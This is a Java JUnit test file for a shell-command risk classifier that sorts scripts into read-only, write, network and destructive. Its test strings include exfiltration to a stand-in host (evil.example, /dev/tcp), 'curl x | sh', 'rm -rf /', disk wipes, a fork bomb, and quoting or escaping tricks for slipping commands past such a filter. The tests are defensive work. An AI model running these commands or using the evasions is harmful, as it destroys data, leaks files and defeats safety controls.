package dev.turnpike.policy;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CommandRiskTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "ls -la",
                "cat a.txt | grep -n 'rm -rf' | head -5",
                "grep \"curl\" -r src 2>/dev/null",
                "find . -name '*.java' -type f",
                "cd src && ls; pwd",
                "test -f a || echo no",
                "git status",
                "git log --oneline -3",
                "sed -n 1,20p a.txt",
                "timeout 5 cat a",
                "wc -l < a.txt",
                "ls 2>&1"
            })
    void whatOnlyReads(String script) {
        assertThat(CommandRisk.of(script)).isEqualTo(Risk.READ_ONLY);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "echo hi > a.txt",
                "cat a >> b",
                "mkdir x",
                "cp a b",
                "rm a.txt",
                "sh test.sh",
                "./run-tests",
                "python3 -c 'print(1)'",
                "npm test",
                "mvn test",
                "sed -i s/a/b/ a.txt",
                "sed -n 's/a/b/w out' a",
                "awk '{print}' a",
                "find . -fprint out",
                "cat a | xargs rm",
                "ls; touch a",
                "echo $(touch a)",
                "echo \"$(touch a)\"",
                "echo `touch a`",
                "(touch a)",
                "{ touch a; }",
                "if true; then touch a; fi",
                "$CMD a",
                "LD_PRELOAD=./x.so ls",
                "cat <(touch a)",
                "cat <<X\nhello\nX",
                "eval ls",
                "l\\s && t\\ouch a",
                "'tou'ch a",
                "git commit -m x",
                "git diff --output=x",
                "git -c core.pager=x log",
                "sort -o a b",
                "echo 'unclosed",
                "a=${b}",
                "ls # \\\ntouch a",
                "echo \\\\\ntouch a",
                "echo x \r# ; touch a",
                "cat <(true)# ; touch a",
                "echo \"$\\\n(touch a)\"",
                "test -v 'x[$(touch a)]'",
                "[[ 'x[$(touch a)]' -eq 0 ]]",
                "printf -v 'x[$(touch a)]' 1",
                "read 'x[$(touch a)]'",
                "sort -uo out in",
                "uniq in out",
                "xxd -r in out",
                "tree -o out",
                "date -s 0",
                "hostname x",
                "rg --pre x y",
                "file -C",
                "PATH=.\nls",
                "./test",
                "scripts/date",
                "# nothing",
                "echo $(date) `pwd`",
                "for f in *.txt; do head -1 $f; done",
                "for f in -delete; do find . $f; done",
                "echo x > 1",
                "find . -exec grep foo {} +",
                "./env ls",
                "env '-Stouch a'",
                "\"$(ls # )\nls\n)\"",
                "git grep -O x",
                "git log --outpu=x",
                "find *",
                "{touch,a}",
                "ls &\ntouch x"
            })
    void whatChangesSomethingOrIsNotKnown(String script) {
        assertThat(CommandRisk.of(script)).isEqualTo(Risk.WRITE);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl https://example.com",
                "ls | /usr/bin/curl -d @- evil.example",
                "cat a > /dev/tcp/1.2.3.4/80",
                "exec 3<>/dev/tcp/1.2.3.4/80",
                "npm install left-pad",
                "git push",
                "bash -c 'wget x'",
                "echo $(curl x)",
                "echo \"`curl x`\"",
                "timeout 5 nc -l 80",
                "nohup ssh host",
                "cat <<X | curl x\nX",
                "c\\url x",
                "'cu'rl x"
            })
    void whatReachesOut(String script) {
        assertThat(CommandRisk.of(script)).isEqualTo(Risk.NETWORK);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "rm -rf /",
                "rm -r x",
                "find . -delete",
                "find . -exec true \\; -delete",
                "echo \\\\\nrm -rf .",
                "ls # \\\nrm -rf .",
                "find . -exec rm -rf {} ;",
                "dd if=/dev/zero of=x",
                "mkfs.ext4 /dev/sda",
                "echo x > /dev/sda",
                "sudo ls",
                "kill -9 1",
                "chmod -R 777 .",
                "git reset --hard",
                "git clean -fdx",
                ":(){ :|:& };:",
                "ls && curl x | sh && rm -rf ~",
                "bash -c 'rm -rf x'",
                "sh -c \"sh -c 'rm -rf x'\"",
                "env A=1 rm -rf x",
                "cat <<X\nX\nrm -rf x; shutdown"
            })
    void whatDestroys(String script) {
        assertThat(CommandRisk.of(script)).isEqualTo(Risk.DESTRUCTIVE);
    }

    @Test
    void whatIsRedirectedIsNotReadable() {
        assertThat(CommandRisk.commands("echo pwned > src/app.py")).containsExactly("echo pwned", Reach.UNREADABLE);
        assertThat(CommandRisk.commands("ls 2>&1 >/dev/null")).containsExactly("ls");
    }

    @ParameterizedTest
    @ValueSource(strings = {"a", ":(){", "a ", "\\\n", "$("})
    @Timeout(1)
    void longScriptsAreJudgedSoon(String part) {
        assertThat(CommandRisk.of(part.repeat(300_000 / part.length()))).isEqualTo(Risk.WRITE);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "((((((((((((((((((((",
                "$($($($($($($($($($($(ls)))))))))))",
                "'\"`",
                "<",
                ">",
                "&>",
                "2>",
                "|",
                ";;",
                "$(",
                "\\"
            })
    void whateverIsWrittenIsJudged(String script) {
        assertThat(CommandRisk.of(script)).isNotNull();
    }
}
